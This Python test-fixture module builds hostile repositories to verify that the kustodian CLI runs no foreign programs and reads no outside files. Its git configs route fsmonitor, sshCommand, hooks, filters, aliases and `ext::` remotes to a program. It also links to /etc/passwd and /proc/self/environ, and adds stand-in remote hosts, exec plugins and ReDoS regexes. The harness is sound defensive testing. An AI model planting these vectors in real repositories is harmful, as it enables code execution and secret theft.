"""Repositories for tests that run commands on them; hostile ones are built on a branch with one harmless change.

Every program that one of them names creates the marker; every file outside that one names holds the canary.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from tests.cli.harness import kustodian, write
from tests.cli.test_base import KUSTOMIZATION, POD, commit, git

CANARY = "SECRET-CANARY"


class Hostile(NamedTuple):
    """A repository, and a folder outside of it with a program, its marker and files with the canary."""

    root: Path
    outside: Path

    @property
    def program(self) -> Path:
        """An executable that makes the marker."""
        return self.outside / "program"

    @property
    def marker(self) -> Path:
        """Exists once the program has run."""
        return self.outside / "marker"

    @property
    def overlay(self) -> Path:
        """The overlay that the configuration lists."""
        return self.root / "overlays/prod"


def harmless(folder: Path) -> Hostile:
    """A repository with one overlay on `main`, a branch with one new finding, and the folder outside."""
    root, outside = folder / "repo", folder / "outside"
    write(outside, {
        "program": f"#!/bin/sh\ntouch '{outside}/marker'\ncat\n", "secret.yaml": f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: {CANARY}}}\n",
        "secret.env": f"TOKEN={CANARY}\n", "policy.rego": f'package main\n\ndeny contains "{CANARY}" if true\n', "data.json": f'{{"x": "{CANARY}"}}',
    })  # fmt: skip
    (outside / "program").chmod(0o755)
    write(root, {
        "kustodian.yaml": "environments: {prod: {class: prod, paths: ['overlays/*']}}\n",
        "overlays/prod/kustomization.yaml": f"{KUSTOMIZATION}resources: [a.yaml, b.yaml]\n",
        "overlays/prod/a.yaml": POD.format(name="a", tag="latest"),
        "overlays/prod/b.yaml": POD.format(name="b", tag="1.0"),
    })  # fmt: skip
    git(root, "init", "--quiet", "--initial-branch", "main")
    commit(root, "one")
    git(root, "switch", "--quiet", "--create", "change")
    (root / "overlays/prod/b.yaml").write_text(POD.format(name="b", tag="latest"))
    git(root, "add", "--all")
    return Hostile(root, outside)


def two_revisions(root: Path) -> Path:
    """A repository whose second commit adds a finding, checked once, with the report in `report.json`."""
    write(root, {
        "kustodian.yaml": "environments: {prod: {class: prod, paths: [overlays/prod]}}\n",
        "overlays/staging/version.yaml": "image: b\n", "overlays/prod/version.yaml": "image: a\n",
        "overlays/prod/kustomization.yaml": f"{KUSTOMIZATION}namespace: iris\nresources: [a.yaml, b.yaml]\n",
        "overlays/prod/a.yaml": POD.format(name="a", tag="latest"), "overlays/prod/b.yaml": POD.format(name="b", tag="1.0"),
    })  # fmt: skip
    git(root, "init", "--quiet")
    commit(root, "one")
    (root / "overlays/prod/b.yaml").write_text(POD.format(name="b", tag="latest"))
    commit(root, "two")
    assert kustodian("check", "--no-cache", "--format", "json=report.json", cwd=root).code == 1
    return root


def _settings(program: Path) -> str:
    return (
        f"[core]\n\tfsmonitor = {program}\n\tsshCommand = {program}\n\thooksPath = {program.parent}\n[diff]\n\texternal = {program}\n"
        f'[filter "evil"]\n\tclean = {program}\n\tsmudge = {program}\n[remote "origin"]\n\turl = ext::{program}\n\tpromisor = true\n'
        f"[protocol]\n\tallow = always\n[alias]\n\tlog = !{program}\n\tdiff = !{program}\n"
    )


def bare_repository(case: Hostile) -> None:
    """What git takes for a bare repository, in the root and in the overlay."""
    for folder, tree in ((case.root, "."), (case.overlay, "../..")):
        write(folder, {"HEAD": "ref: refs/heads/main\n", "objects/keep": "", "refs/keep": "", "config": (
            f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = {tree}\n{_settings(case.program)}"
        )})  # fmt: skip


def git_file(case: Hostile) -> None:
    """A nested `.git` file that leads to a repository outside."""
    other = write(case.outside / "other", {"x": "y"})
    git(other, "init", "--quiet")
    commit(other, "other")
    with (other / ".git/config").open("a") as config:
        config.write(_settings(case.program))
    (case.overlay / ".git").write_text(f"gitdir: {other}/.git\n")


def git_settings(case: Hostile) -> None:
    """A monitor, filters, aliases, an external diff and a promisor remote in `.git/config`."""
    with (case.root / ".git/config").open("a") as config:
        config.write(_settings(case.program))
    (case.root / ".gitattributes").write_text("* filter=evil diff=evil\n")
    for file in case.overlay.iterdir():
        os.utime(file, (1, 1))


def remote_base(case: Hostile) -> None:
    """Bases and resources behind URLs of several kinds."""
    urls = (
        "https://203.0.113.1/x?ref=1",
        "git::ssh://git@203.0.113.1/x",
        "http://127.0.0.1:1/x.yaml",
        "github.com/a/b",
        "file:///etc",
    )
    quoted = ", ".join(map(repr, urls))
    _kustomization(case, f"resources: [a.yaml, b.yaml, {quoted}]\n")


def helm_chart(case: Hostile) -> None:
    """A chart of a repository, one in a folder, and a program called helm in the repository."""
    shutil.copy2(case.program, case.root / "helm")
    write(case.overlay, {"charts/x/Chart.yaml": "apiVersion: v2\nname: x\nversion: 1.0.0\n"})
    _kustomization(
        case,
        "resources: [a.yaml, b.yaml]\nhelmCharts: [{name: x, repo: 'https://203.0.113.1', version: 1.0.0}]\nhelmGlobals: {chartHome: charts}\n",
    )


def exec_plugin(case: Hostile) -> None:
    """Generators and transformers that are programs and containers."""
    plugin = "apiVersion: a/v1\nkind: {kind}\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      {how}\n"
    write(case.overlay, {
        "exec.yaml": plugin.format(kind="Exec", how=f"exec: {{path: {case.program}}}"),
        "container.yaml": plugin.format(kind="Container", how="container: {image: 203.0.113.1/x, network: true}"),
    })  # fmt: skip
    _kustomization(
        case,
        "resources: [a.yaml, b.yaml]\ngenerators: [exec.yaml]\ntransformers: [container.yaml]\nvalidators: [exec.yaml]\n",
    )


def sops_block(case: Hostile) -> None:
    """Secrets that say they are encrypted, rules of SOPS with expensive patterns, KSOPS, links to secrets outside."""
    write(case.overlay, {
        "s.enc.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: s}\nstringData: {token: hunter2hunter2}\nsops: {mac: x, version: 3.8.1}\n",
        "ksops.yaml": "apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata: {name: k}\nfiles: [../../../outside/secret.yaml, s.enc.yaml]\n",
    })  # fmt: skip
    (case.root / ".sops.yaml").write_text(
        "creation_rules: [{path_regex: '(a+)+$', encrypted_regex: '(x|x)*$', kms: arn:aws:kms:x}]\n"
    )
    (case.root / "x.enc.env").symlink_to("../outside/secret.env")
    _kustomization(case, "resources: [a.yaml, b.yaml]\ngenerators: [ksops.yaml]\n")


def http_send(case: Hostile) -> None:
    """Rego that asks a server, the environment and files outside."""
    write(case.root, {
        "policies/x.rego": (
            'package main\n\ndeny contains msg if {\n\tmsg := http.send({"method": "GET", "url": "http://127.0.0.1:1/"}).raw_body\n}\n'
            "deny contains msg if {\n\tmsg := sprintf(\"%v\", [opa.runtime()])\n}\n"
        ),
    })  # fmt: skip
    _configuration(case, "rego: {policy: [policies]}\n")


def policies_out(case: Hostile) -> None:
    """Policies and data that lie outside, by path and by link."""
    (case.root / "linked").symlink_to("../outside")
    _configuration(
        case, "rego: {policy: [../outside/policy.rego, linked], data: [../outside/data.json, /etc/passwd]}\n"
    )


def schemas_out(case: Hostile) -> None:
    """Schemas that lie outside, and one that refers to a file and a server."""
    write(case.root, {"crds/c.yaml": (
        "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: xs.a.b}\nspec:\n  group: a.b\n  names: {kind: X, plural: xs}\n"
        "  scope: Namespaced\n  versions:\n  - name: v1\n    served: true\n    storage: true\n    schema:\n      openAPIV3Schema:\n"
        "        {type: object, properties: {spec: {$ref: 'file:///etc/passwd'}, x: {$ref: 'http://127.0.0.1:1/x'}}}\n"
    ), "overlays/prod/b.yaml": "apiVersion: a.b/v1\nkind: X\nmetadata: {name: x}\nspec: {}\nx: {}\n"})  # fmt: skip
    _configuration(case, "schemas: [crds, ../outside, /etc]\n")


def links_out(case: Hostile) -> None:
    """Links to files, folders, devices and /proc outside, as resources and as files of generators."""
    for name, target in (
        ("l.yaml", "../../../outside/secret.yaml"),
        ("etc", "/etc"),
        ("zero.yaml", "/dev/zero"),
        ("self.env", "/proc/self/environ"),
    ):
        (case.overlay / name).symlink_to(target)
    _kustomization(
        case,
        "resources: [a.yaml, b.yaml, l.yaml, etc/passwd, zero.yaml]\nconfigMapGenerator: [{name: c, envs: [self.env], files: [../../../outside/secret.env]}]\n",
    )


def application_sets(case: Hostile) -> None:
    """ApplicationSets whose generators name files outside and whose globs are expensive."""
    write(case.root, {"argocd/set.yaml": (
        "apiVersion: argoproj.io/v1alpha1\nkind: ApplicationSet\nmetadata: {name: s}\nspec:\n  goTemplate: true\n  generators:\n"
        "  - git: {repoURL: 'https://203.0.113.1/x', revision: HEAD, files: [{path: '../outside/*.json'}, {path: '/etc/*'}, {path: '**/**/**/**/*a*b*c*.json'}]}\n"
        "  - git: {repoURL: 'https://203.0.113.1/x', revision: HEAD, directories: [{path: '../../*'}, {path: 'overlays/*'}]}\n"
        "  - pullRequest: {github: {owner: a, repo: b, api: 'http://127.0.0.1:1/'}}\n  - plugin: {configMapRef: {name: x}}\n"
        "  template:\n    metadata: {name: '{{ .path.basename }}'}\n    spec: {project: default, source: {repoURL: 'https://203.0.113.1/x', path: '../{{ .path.path }}'}, destination: {name: x}}\n"
    ), "argocd/kustomization.yaml": f"{KUSTOMIZATION}resources: [set.yaml]\n"})  # fmt: skip
    _configuration(case, "", "environments: {prod: {class: prod, paths: ['overlays/*', argocd]}}\n")


def fifo(case: Hostile) -> None:
    """Named pipes among manifests, policies, schemas, values and configurations."""
    for name in (
        "overlays/prod/p.yaml",
        "policies/p.rego",
        "crds/p.yaml",
        ".sops.yaml",
        ".gitattributes",
        "x.enc.env",
    ):
        (case.root / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(case.root / name)
    _configuration(case, "rego: {policy: [policies]}\nschemas: [crds]\n")


def submodule(case: Hostile) -> None:
    """A submodule with settings of its own, an `ext::` address and an update command."""
    library = write(case.outside / "library", {"README": "x"})
    git(library, "init", "--quiet", "--initial-branch", "main")
    commit(library, "library")
    git(case.root, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(library), "library")
    with (case.root / ".git/modules/library/config").open("a") as config:
        config.write(_settings(case.program))
    (case.root / ".gitmodules").write_text(
        f'[submodule "library"]\n\tpath = library\n\turl = ext::{case.program}\n\tupdate = !{case.program}\n'
    )
    (case.root / "library/README").write_text("y")


ATTACKS: tuple[Callable[[Hostile], None], ...] = (
    bare_repository, git_file, git_settings, remote_base, helm_chart, exec_plugin, sops_block, http_send, policies_out, schemas_out,
    links_out, application_sets, fifo, submodule,
)  # fmt: skip


def _kustomization(case: Hostile, text: str) -> None:
    (case.overlay / "kustomization.yaml").write_text(KUSTOMIZATION + text)


def _configuration(
    case: Hostile,
    text: str,
    environments: str = "environments: {prod: {class: prod, paths: ['overlays/*']}}\n",
) -> None:
    (case.root / "kustodian.yaml").write_text(environments + text)
